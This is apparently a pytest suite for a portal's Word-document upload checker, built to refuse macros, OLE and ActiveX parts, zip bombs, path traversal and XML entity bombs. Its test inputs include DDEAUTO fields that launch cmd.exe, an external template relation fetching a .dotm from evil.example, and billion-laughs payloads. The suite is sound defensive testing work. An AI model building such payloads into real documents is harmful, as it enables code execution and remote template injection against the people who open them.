"""Word documents: real ones are taken; macros, bombs and what fetches from elsewhere are not."""

import io
import zipfile

import pytest

from portal.files import rules
from portal.files.check import FileRefused, check_upload
from tests.portal.files.samples import MACRO_TYPE, RELATIONS, docx, pdf, relation, zipped


def field(text: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{text}</w:instrText></w:r>'


@pytest.mark.parametrize(
    "content",
    [
        docx(),
        docx(compression=zipfile.ZIP_STORED),
        docx(main_part="word/document2.xml"),
        docx({"word/media/image1.png": b"\x89PNG"}, relations=relation("image", "media/image1.png")),
        docx(relations=relation("hyperlink", "https://example.org", "External")),
        docx(body=field(" PAGE ") + field(' HYPERLINK "https://example.org/dde" ')),
        docx(body="<w:p><w:r><w:t>DDEAUTO is a word here</w:t></w:r></w:p>"),
    ],
    ids=["plain", "stored", "numbered main part", "picture", "link", "fields", "about DDE"],
)
def test_ordinary_documents_are_taken_as_they_are(content: bytes) -> None:
    assert check_upload("a.docx", content).content == content


@pytest.mark.parametrize(
    "content",
    [
        docx({"word/vbaProject.bin": b"macro"}),
        docx({"word/VBAPROJECT.BIN": b"macro"}),
        docx(main_type=MACRO_TYPE),
        docx(relations=relation("vbaProject", "harmless.bin")),
        docx({"word/embeddings/oleObject1.bin": b"ole"}),
        docx(relations=relation("oleObject", "media/picture.bin")),
        docx({"word/activeX/activeX1.xml": b"<a/>"}),
        docx(relations=relation("aFChunk", "chunk.rtf")),
        docx(body=field(' DDEAUTO c:\\\\cmd.exe "/k calc" ')),
        docx(body=field("DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd")),
        docx(body='<w:fldSimple w:instr=" dde cmd calc "/>'),
        docx({"word/header1.xml": f'<w:hdr xmlns:w="w">{field("DDE cmd")}</w:hdr>'}),
    ],
    ids="macro capitals docm relation ole ole-relation activex chunk dde split simple header".split(),
)
def test_a_document_that_holds_a_program_is_refused(content: bytes) -> None:
    with pytest.raises(FileRefused, match="program"):
        check_upload("a.docx", content)


@pytest.mark.parametrize("kind", ["attachedTemplate", "image", "frameset"])
@pytest.mark.parametrize("part", ["word/_rels/document.xml.rels", "word/_rels/settings.xml.rels"])
def test_a_document_that_fetches_something_is_refused(kind: str, part: str) -> None:
    outside = f"<R>{relation(kind, 'https://evil.example/x.dotm', 'External')}</R>"
    with pytest.raises(FileRefused, match="from elsewhere"):
        check_upload("a.docx", docx({part: outside}))


def test_another_office_file_or_a_plain_zip_is_not_a_word_document() -> None:
    sheet = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    for content in (docx(main_type=sheet), zipped([("word/document.xml", b"<a/>")]), docx(main_part="word/other.xml")):
        with pytest.raises(FileRefused, match="not a Word document"):
            check_upload("a.docx", content)


def bomb(size: int, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    return docx({"word/media/image1.bmp": bytes(size)}, compression=compression)


def test_a_zip_bomb_is_refused() -> None:
    content = bomb(rules.MAX_UNPACKED)
    assert len(content) < 200_000
    with pytest.raises(FileRefused, match="too large when unpacked"):
        check_upload("a.docx", content)


def test_a_zip_bomb_whose_header_lies_about_its_size_is_refused() -> None:
    size = rules.MAX_UNPACKED + 1
    lie = bomb(size).replace(size.to_bytes(4, "little"), (100).to_bytes(4, "little"))
    with pytest.raises(FileRefused):
        check_upload("a.docx", lie)


@pytest.mark.parametrize("compression", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_packings_that_unpack_all_at_once_are_refused_before_they_do(compression: int) -> None:
    with pytest.raises(FileRefused):
        check_upload("a.docx", bomb(1000, compression))


def test_a_document_of_too_many_parts_is_refused() -> None:
    parts = {f"word/media/{number}": b"" for number in range(rules.MAX_MEMBERS)}
    with pytest.raises(FileRefused, match="too many parts"):
        check_upload("a.docx", docx(parts))


@pytest.mark.parametrize("name", ["../evil.xml", "/etc/passwd", "word\\evil.xml", "word/../../x", "C:evil", "a\nb"])
def test_a_part_that_leads_out_of_the_document_is_refused(name: str) -> None:
    with pytest.raises(FileRefused):
        check_upload("a.docx", docx({name: b"<a/>"}))


def test_a_document_that_is_another_file_too_is_refused() -> None:
    for content in (pdf() + docx(), b"PK\x03\x04" + pdf() + docx()):
        with pytest.raises(FileRefused):
            check_upload("a.docx", content)


def test_a_document_with_two_parts_of_one_name_is_refused() -> None:
    with pytest.raises(FileRefused):
        check_upload("a.docx", docx({"word/Document.xml": b"<other/>"}))


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("part", ["[Content_Types].xml", "word/_rels/document.xml.rels", "word/styles.xml"])
def test_entities_are_refused_in_every_encoding(part: str, encoding: str) -> None:
    laughs = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;">]><a>&c;</a>'
    with pytest.raises(FileRefused):
        check_upload("a.docx", docx({part: laughs.encode(encoding)}))


def test_a_part_that_is_not_xml_is_refused() -> None:
    with pytest.raises(FileRefused, match="could not open"):
        check_upload("a.docx", docx({"word/styles.xml": b"<a><b></a>"}))


OUTSIDE = f"<R>{relation('attachedTemplate', 'https://evil.example/x.dotm', 'External')}</R>"
DDE = '<w:hdr xmlns:w="w"><w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe calc "/></w:hdr>'
HEADER = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"


def declared(part: str, kind: str) -> str:
    """`[Content_Types].xml` of `docx()`, with one more part."""
    types = zipfile.ZipFile(io.BytesIO(docx())).read("[Content_Types].xml").decode()
    return types.replace("</Types>", f'<Override PartName="/{part}" ContentType="{kind}"/></Types>')


@pytest.mark.parametrize(
    "extra",
    [
        {"word/_rels/settings.xml.RELS": OUTSIDE},
        {"word/_rels/settings.xml.rels": OUTSIDE.replace("External", "external")},
        {"word/header1.XML": DDE},
        {"word/header1.part": DDE},
        {"word/header1.part": DDE, "[Content_Types].xml": declared("word/header1.part", HEADER)},
        {"word/HEADER1.png": DDE, "[Content_Types].xml": declared("word/header1.png", HEADER.upper())},
        {"word/vb.dat": OUTSIDE},
        {"word/media/image1.png": "\ufeff" + DDE},
        {"word/header1.bin": DDE.encode("utf-16")},
        {"word/_RELS/document2": OUTSIDE, "[Content_Types].xml": declared("word/_rels/document2", RELATIONS)},
    ],
    ids="rels mode xml undeclared declared capitals dat bom utf-16 relations".split(),
)
def test_no_spelling_of_a_name_hides_what_word_would_read(extra: dict[str, bytes | str]) -> None:
    with pytest.raises(FileRefused):
        check_upload("a.docx", docx(extra))


def test_names_are_the_same_in_capitals_and_pictures_may_be_drawings() -> None:
    drawing = {
        "word/media/image1.svg": "<svg/>",
        "[Content_Types].xml": declared("word/media/IMAGE1.svg", "image/svg+xml"),
    }
    for content in (docx(drawing), docx({"word/Header1.XML": '<w:hdr xmlns:w="w"/>'})):
        assert check_upload("a.docx", content).content == content


def test_a_type_of_a_part_in_capitals_still_makes_a_word_document() -> None:
    types = declared("word/x.bin", "image/x-emf").replace(
        'PartName="/word/document.xml"', 'PartName="/WORD/Document.xml"'
    )
    found = docx({"[Content_Types].xml": types, "word/x.bin": b"\x01\x00"})
    assert check_upload("a.docx", found).content == found
